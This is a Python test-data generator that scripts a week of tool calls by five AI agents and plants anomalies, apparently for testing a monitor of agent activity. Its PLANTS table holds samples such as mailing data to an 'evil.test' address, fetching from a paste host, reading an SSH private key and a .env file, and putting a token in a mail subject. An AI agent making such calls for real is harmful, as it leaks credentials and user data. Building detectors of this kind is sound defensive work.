"""Script a working week of five agents over six servers, and plant unusual calls in it, drawn by a seed."""

import random
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field, replace
from typing import Any, Final

# Monday, 2026-11-09, 00:00 UTC.
MONDAY_MS: Final = 1_794_182_400_000
HOUR_MS: Final = 3_600_000
DAY_MS: Final = 24 * HOUR_MS
CUSTOMERS = tuple(f"customer-{number}" for number in range(12))
PROJECTS = ("shop", "docs", "billing")
_WORDS = ("late", "refund", "invoice", "status", "order", "question", "delivery", "address")


@dataclass(frozen=True, kw_only=True, slots=True)
class ScriptedCall:
    """One call as an agent makes it. `kind` is the kind of oddity that it was planted for."""

    at_ms: int
    agent: str
    user: str
    tool: str
    arguments: Mapping[str, Any]
    kind: str = ""
    # What the server is told to do.
    fails: bool = False
    result_bytes: int = 200
    cost_micros: int = 1000
    extra_agents: tuple[str, ...] = ()


Arguments = Callable[[random.Random], dict[str, Any]]


def _pick(*values: Any) -> Callable[[random.Random], Any]:
    return lambda chance: chance.choice(values)


def _text(words: int) -> Callable[[random.Random], str]:
    return lambda chance: " ".join(chance.choice(_WORDS) for _ in range(chance.randint(1, words)))


TOOLS: Final[Mapping[str, Mapping[str, Callable[[random.Random], Any]]]] = {
    "crm.get_customer": {"customer": _pick(*CUSTOMERS)},
    "crm.list_customers": {"limit": lambda chance: chance.randint(5, 49)},
    "crm.update_customer": {"customer": _pick(*CUSTOMERS), "tier": _pick("free", "plus")},
    "mail.send_mail": {
        "to": lambda chance: (
            f"{chance.choice(_WORDS)}{chance.randint(1, 400)}@{chance.choice(('acme.test', 'shop.test'))}"
        ),
        "subject": _text(4),
    },
    "mail.search_mail": {"query": _text(3)},
    "mail.send_group": {
        "to": lambda chance: [f"{each}@acme.test" for each in chance.sample(_WORDS, chance.randint(1, 3))],
        "subject": _text(4),
    },
    "files.read_file": {
        "path": lambda chance: f"/srv/{chance.choice(PROJECTS)}/{chance.choice(_WORDS)}{chance.randint(1, 90)}.md"
    },
    "files.write_file": {
        "path": lambda chance: f"/srv/{chance.choice(PROJECTS)}/out/{chance.choice(_WORDS)}.md",
        "overwrite": _pick(False),
    },
    "billing.get_invoice": {"invoice": lambda chance: chance.randint(1000, 1400)},
    "billing.refund_invoice": {
        "invoice": lambda chance: chance.randint(1000, 1400),
        "amount": lambda chance: chance.randint(5, 90),
    },
    "web.fetch_page": {
        "url": lambda chance: f"https://{chance.choice(('docs.test', 'news.test'))}/{chance.choice(_WORDS)}"
    },
    "git.list_commits": {"branch": _pick("main", "next"), "limit": lambda chance: chance.randint(5, 30)},
    "git.delete_branch": {"branch": lambda chance: f"old-{chance.randint(1, 60)}"},
}
# What a rule about one call cannot see: limits, redaction and reviews are for these.
BEYOND_RULES: Final = frozenset(
    {"burst", "enumeration", "repeated-failures", "repeated-change", "large-result", "expensive", "long-text",
     "secret-in-argument"}
)  # fmt: skip
OPTIONAL: Final = {"files.write_file": ("mode",), "mail.send_mail": ("bcc",)}
AGENTS: Final[Mapping[str, tuple[str, ...]]] = {
    "support": ("crm.get_customer", "mail.send_mail", "mail.search_mail", "billing.get_invoice"),
    "billing": ("billing.get_invoice", "billing.refund_invoice", "crm.get_customer", "mail.send_group"),
    "writer": ("files.read_file", "files.write_file", "web.fetch_page"),
    "coder": ("files.read_file", "git.list_commits", "git.delete_branch", "web.fetch_page"),
    "analyst": ("crm.list_customers", "crm.get_customer", "files.read_file"),
}


@dataclass(kw_only=True, slots=True)
class Week:
    """The calls of a week in the order of time, and the kinds that were planted."""

    calls: list[ScriptedCall] = field(default_factory=list)
    kinds: list[str] = field(default_factory=list)


def script_week(seed: int, *, calls: int, oddities: int, kinds: Iterable[str] | None = None, shift_ms: int = 0) -> Week:
    """Script the ordinary calls of a week, and plant as many kinds of oddities, each in another hour.

    `shift_ms` moves the whole week.
    """
    chance = random.Random(seed)
    week = Week()
    for number in range(calls):
        agent = tuple(AGENTS)[number % len(AGENTS)]
        week.calls.append(make_ordinary_call(chance, agent, chance.randrange(5), chance.uniform(8, 18)))
    week.kinds = chance.sample(sorted(PLANTS if kinds is None else kinds), oddities)
    slots = chance.sample([(day, hour) for day in range(5) for hour in range(9, 17)], oddities)
    for kind, (day, hour) in zip(week.kinds, slots, strict=True):
        at_ms = MONDAY_MS + day * DAY_MS + hour * HOUR_MS + 1_800_000
        week.calls += [replace(each, kind=kind) for each in PLANTS[kind](chance, at_ms)]
    week.calls = [replace(each, at_ms=each.at_ms + shift_ms) for each in week.calls]
    week.calls.sort(key=lambda call: call.at_ms)
    return week


def make_ordinary_call(chance: random.Random, agent: str, day: int, hour: float) -> ScriptedCall:
    """Make a call that the agent makes every day."""
    tool = chance.choice(AGENTS[agent])
    at_ms = MONDAY_MS + day * DAY_MS + int(hour * HOUR_MS)
    return make_call(chance, at_ms, agent, tool)


def make_call(chance: random.Random, at_ms: int, agent: str, tool: str, **changes: Any) -> ScriptedCall:
    """Make a call with ordinary arguments, some of which are changed."""
    arguments = {name: make(chance) for name, make in TOOLS[tool].items()}
    return ScriptedCall(
        at_ms=at_ms,
        agent=agent,
        user="ana",
        tool=tool,
        arguments=arguments | changes,
        result_bytes=chance.randint(100, 900),
        cost_micros=chance.randint(500, 1500),
    )


Plant = Callable[[random.Random, int], list[ScriptedCall]]


def _one(agent: str, tool: str, **changes: Any) -> Plant:
    return lambda chance, at_ms: [make_call(chance, at_ms, agent, tool, **changes)]


def _many(count: int, step_ms: int, agent: str, tool: str, **changes: Any) -> Plant:
    return lambda chance, at_ms: [make_call(chance, at_ms + n * step_ms, agent, tool, **changes) for n in range(count)]


def _plant_night(chance: random.Random, at_ms: int) -> list[ScriptedCall]:
    night_ms = at_ms - at_ms % DAY_MS + 2 * HOUR_MS
    return [make_call(chance, night_ms, "billing", "billing.get_invoice")]


def _plant_weekend(chance: random.Random, at_ms: int) -> list[ScriptedCall]:
    return [make_call(chance, MONDAY_MS + 6 * DAY_MS + 11 * HOUR_MS, "support", "crm.get_customer")]


def _plant_after_secret(chance: random.Random, at_ms: int) -> list[ScriptedCall]:
    return [
        make_call(chance, at_ms, "coder", "files.read_file", path="/srv/shop/.env"),
        make_call(chance, at_ms + 20_000, "coder", "git.delete_branch"),
    ]


def _plant_failures(chance: random.Random, at_ms: int) -> list[ScriptedCall]:
    # An ordinary call between them leaves five in a row.
    calls = _many(11, 4_000, "analyst", "crm.get_customer", customer="customer-x")(chance, at_ms)
    return [replace(each, fails=True) for each in calls]


def _plant_enumeration(chance: random.Random, at_ms: int) -> list[ScriptedCall]:
    return [
        make_call(chance, at_ms + n * 4_000, "billing", "billing.get_invoice", invoice=1000 + 7 * n) for n in range(56)
    ]


def _plant_other_user(chance: random.Random, at_ms: int) -> list[ScriptedCall]:
    return [replace(make_call(chance, at_ms, "support", "crm.get_customer"), user="mallory")]


def _plant_chain(chance: random.Random, at_ms: int) -> list[ScriptedCall]:
    return [replace(make_call(chance, at_ms, "writer", "files.read_file"), extra_agents=("helper",))]


PLANTS: Final[Mapping[str, Plant]] = {
    "rare-tool": _one("support", "crm.update_customer"),
    "rare-system": _one("writer", "billing.get_invoice"),
    "rare-caller": _one("stranger", "crm.get_customer"),
    "rare-pairing": _plant_other_user,
    "unusual-chain": _plant_chain,
    "rare-change": _one("analyst", "files.write_file"),
    "unusual-hour": _plant_night,
    "unusual-day": _plant_weekend,
    "burst": _many(45, 900, "support", "mail.search_mail"),
    "number-out-of-range": _one("billing", "billing.refund_invoice", amount=5000),
    "rare-value": _one("coder", "git.list_commits", branch="release-keys"),
    "rare-domain": _one("support", "mail.send_mail", to="drop@evil.test"),
    "rare-host": _one("writer", "web.fetch_page", url="https://paste.evil.test/x"),
    "rare-folder": _one("analyst", "files.read_file", path="/home/root/notes/plan.md"),
    "rare-argument": _one("writer", "files.write_file", mode="777"),
    "long-text": _one("support", "mail.search_mail", query="order " * 300),
    "many-items": _one("billing", "mail.send_group", to=[f"person{n}@acme.test" for n in range(30)]),
    "sensitive-path": _one("coder", "files.read_file", path="/srv/shop/.ssh/id_rsa"),
    "secret-in-argument": _one("support", "mail.send_mail", subject="ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
    "change-after-secret": _plant_after_secret,
    "repeated-failures": _plant_failures,
    "repeated-change": _many(6, 5_000, "billing", "billing.refund_invoice", invoice=1200, amount=40),
    "enumeration": _plant_enumeration,
    "large-result": lambda chance, at_ms: [
        replace(make_call(chance, at_ms, "analyst", "crm.list_customers", limit=50), result_bytes=200_000)
    ],
    "expensive": lambda chance, at_ms: [
        replace(make_call(chance, at_ms, "writer", "web.fetch_page"), cost_micros=90_000)
    ],
}
